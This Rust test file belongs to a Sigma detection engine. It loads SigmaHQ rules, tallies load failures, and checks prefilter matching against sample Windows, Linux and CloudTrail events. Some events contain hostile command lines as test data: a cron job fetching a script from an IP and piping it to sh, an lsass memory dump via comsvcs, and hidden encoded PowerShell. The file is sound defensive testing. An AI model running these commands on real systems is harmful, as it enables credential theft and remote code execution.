//! Loads every SigmaHQ rule in place with `compile_lenient` and checks that
//! nothing panics and that every rule either loads or has a named reason.
//! The totals (loaded / unsupported by feature / errors by reason) are
//! printed (`--nocapture`) so reports can quote them. Then every loaded rule
//! runs over a mixed event set, and the prefilter must agree with
//! evaluating every rule.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use shardwatch_rules::{Event, RuleErrorKind, RuleSet, RuleSource, Scratch};

fn collect_yml(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            collect_yml(&path, out);
        } else if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(path);
        }
    }
}

/// A short, stable name for an error's reason, for counting.
fn reason(kind: &RuleErrorKind) -> String {
    match kind {
        RuleErrorKind::Yaml(_) => "yaml".to_owned(),
        RuleErrorKind::Regex(_) => "regex".to_owned(),
        RuleErrorKind::UnknownReference(_) => "unknown-reference".to_owned(),
        RuleErrorKind::Duplicate(_) => "duplicate".to_owned(),
        RuleErrorKind::Invalid(text) => format!("invalid: {text}"),
        RuleErrorKind::Unsupported { feature } => feature.clone(),
        RuleErrorKind::Anomaly { key, .. } => format!("anomaly: {key}"),
    }
}

/// An event's fields and message, owned by the test.
type OwnedEvent = (Vec<(&'static str, &'static [u8])>, &'static [u8]);

/// Linux syslog events and Windows events flattened to dotted fields.
fn mixed_events() -> Vec<OwnedEvent> {
    vec![
        // Sysmon for Linux (taxonomy: linux process_creation is its
        // event 1) and a Windows service log (windefend).
        (
            vec![
                ("Event.System.Channel", b"Linux-Sysmon/Operational"),
                ("Event.System.EventID", b"1"),
                ("Event.EventData.Image", b"/usr/bin/base64"),
                ("Event.EventData.CommandLine", b"base64 -d /tmp/payload.b64"),
                ("Event.EventData.User", b"www-data"),
            ],
            b"",
        ),
        (
            vec![
                (
                    "Event.System.Channel",
                    b"Microsoft-Windows-Windows Defender/Operational",
                ),
                ("Event.System.EventID", b"5001"),
            ],
            b"",
        ),
        (
            vec![("process.name", b"vsftpd")],
            b"Connection refused: too many sessions for this address.",
        ),
        // A CloudTrail record as the engine marks it (`event.dataset`).
        (
            vec![
                ("eventVersion", b"1.09"),
                ("eventSource", b"cloudtrail.amazonaws.com"),
                ("eventName", b"StopLogging"),
                ("event.dataset", b"aws.cloudtrail"),
            ],
            b"",
        ),
        (
            vec![
                ("process.name", b"sshd"),
                ("event.action", b"ssh_login"),
                ("event.outcome", b"failure"),
                ("user.name", b"root"),
                ("source.ip", b"198.51.100.10"),
            ],
            b"Failed password for root from 198.51.100.10 port 50022 ssh2",
        ),
        (
            vec![("process.name", b"sudo"), ("user.name", b"bob")],
            b"bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/chmod +s /tmp/x",
        ),
        (
            vec![("process.name", b"CRON")],
            b"(root) CMD (wget http://203.0.113.5/x.sh | sh)",
        ),
        (
            vec![
                ("Event.System.Channel", b"Microsoft-Windows-Sysmon/Operational"),
                ("Event.System.EventID", b"1"),
                ("Event.System.Computer", b"ws1"),
                (
                    "Event.EventData.Image",
                    b"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
                (
                    "Event.EventData.CommandLine",
                    b"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                ),
                (
                    "Event.EventData.ParentImage",
                    b"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                ),
                ("Event.EventData.User", b"CORP\\alice"),
                ("Event.EventData.IntegrityLevel", b"Medium"),
            ],
            b"",
        ),
        (
            vec![
                ("Event.System.Channel", b"Security"),
                ("Event.System.EventID", b"4688"),
                ("Event.EventData.NewProcessName", b"C:\\Windows\\System32\\rundll32.exe"),
                (
                    "Event.EventData.CommandLine",
                    b"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
                ),
            ],
            b"",
        ),
        (
            vec![
                ("Event.System.Channel", b"Security"),
                ("Event.System.EventID", b"4625"),
                ("Event.EventData.TargetUserName", b"Administrator"),
                ("Event.EventData.IpAddress", b"203.0.113.7"),
                ("Event.EventData.LogonType", b"3"),
            ],
            b"",
        ),
        (
            vec![
                ("Event.System.Channel", b"Microsoft-Windows-Sysmon/Operational"),
                ("Event.System.EventID", b"13"),
                (
                    "Event.EventData.TargetObject",
                    b"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
                ),
                ("Event.EventData.Details", b"C:\\Users\\Public\\x.exe"),
                ("Event.EventData.Image", b"C:\\Users\\Public\\x.exe"),
            ],
            b"",
        ),
        (
            vec![
                ("Image", b"C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", b"cmd.exe /c whoami \xff\xfe"),
                ("source.ip", b"10.0.0.1"),
                ("User", b"\xc3\x28root"),
            ],
            b"\xff\xfe\x00 ??*\\",
        ),
        (Vec::new(), b""),
    ]
}

#[test]
fn sigmahq_rules_load_or_give_a_reason() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/sigma/rules");
    let mut files = Vec::new();
    collect_yml(&root, &mut files);
    files.sort();
    if files.is_empty() {
        println!(
            "no SigmaHQ rules under {}; nothing to check",
            root.display()
        );
        return;
    }
    let mut sources = Vec::with_capacity(files.len());
    for path in &files {
        let text = fs::read_to_string(path).unwrap_or_default();
        sources.push(RuleSource {
            origin: path.display().to_string(),
            text,
        });
    }
    // All files together, as the engine loads a directory: duplicate ids
    // across files and cross-file references are checked here.
    let (rules, errors) = RuleSet::compile_lenient(&sources);
    let mut unsupported: BTreeMap<String, usize> = BTreeMap::new();
    let mut logsources: BTreeMap<String, usize> = BTreeMap::new();
    let mut invalid: BTreeMap<String, usize> = BTreeMap::new();
    for error in &errors {
        let text = error.to_string();
        assert!(!text.is_empty());
        let name = reason(&error.kind);
        assert!(
            !name.trim().is_empty(),
            "a failure without a reason: {text}"
        );
        match &error.kind {
            RuleErrorKind::Unsupported { feature } if feature.starts_with("logsource ") => {
                *unsupported
                    .entry("logsource (unmapped)".to_owned())
                    .or_default() += 1;
                *logsources.entry(feature.clone()).or_default() += 1;
            }
            RuleErrorKind::Unsupported { feature } => {
                *unsupported.entry(feature.clone()).or_default() += 1
            }
            _ => *invalid.entry(name).or_default() += 1,
        }
    }
    let unsupported_total: usize = unsupported.values().sum();
    let invalid_total: usize = invalid.values().sum();
    println!(
        "SigmaHQ: {} files; loaded {} detections and {} correlations; {} unsupported; {} errors",
        files.len(),
        rules.detection_count(),
        rules.correlation_count(),
        unsupported_total,
        invalid_total
    );
    println!(
        "prefilter guards {} of {} detections",
        rules.prefiltered_count(),
        rules.detection_count()
    );
    println!("unsupported by feature: {unsupported:#?}");
    let mut top: Vec<(&String, &usize)> = logsources.iter().collect();
    top.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
    println!(
        "unmapped log sources (top 15): {:#?}",
        &top[..top.len().min(15)]
    );
    println!("errors by reason: {invalid:#?}");
    assert!(rules.detection_count() > 0);
    // Every SigmaHQ log source the table maps fits the one-pass classifier.
    assert!(
        rules.logsource_classified(),
        "{} log source groups no longer fit the classifier",
        rules.logsource_group_count()
    );

    // Every loaded rule also runs: the prefilter must agree with evaluating
    // every rule, and nothing may panic on hostile bytes.
    let mut scratch = Scratch::new();
    let mut fast = Vec::new();
    let mut full = Vec::new();
    let mut matched_titles = Vec::new();
    for (fields, message) in mixed_events() {
        let event = Event {
            time_ns: 0,
            fields: &fields,
            message,
            raw: message,
        };
        rules.evaluate(&event, &mut scratch, &mut fast);
        rules.evaluate_all(&event, &mut scratch, &mut full);
        assert_eq!(fast, full, "prefilter dropped or added a match");
        assert!(fast.iter().all(|&i| (i as usize) < rules.detection_count()));
        matched_titles.push(
            fast.iter()
                .map(|&i| rules.detection(i as usize).title.clone())
                .collect::<Vec<_>>(),
        );
    }
    println!("matches per mixed event: {matched_titles:#?}");
    // The taxonomy's log sources reach their rules: Sysmon for Linux
    // process creation, a Windows service channel, a Linux daemon.
    for (at, title) in [
        (0, "Decode Base64 Encoded Text"),
        (1, "Windows Defender Real-time Protection Disabled"),
        (2, "Suspicious VSFTPD Error Messages"),
        (3, "AWS CloudTrail Important Change"),
    ] {
        assert!(
            matched_titles[at].iter().any(|t| t == title),
            "event {at} should match {title:?}: {:?}",
            matched_titles[at]
        );
    }
}
